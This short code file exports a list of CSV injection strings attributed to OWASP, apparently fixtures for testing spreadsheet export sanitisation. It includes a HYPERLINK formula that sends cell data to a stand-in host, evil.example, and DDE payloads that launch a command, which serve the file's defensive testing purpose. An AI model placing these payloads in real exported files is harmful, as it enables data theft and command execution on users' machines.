/** CSV injection strings (OWASP): formulas, DDE, and the leading characters spreadsheets evaluate. */
export const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "=1+1\nsecond line",
];
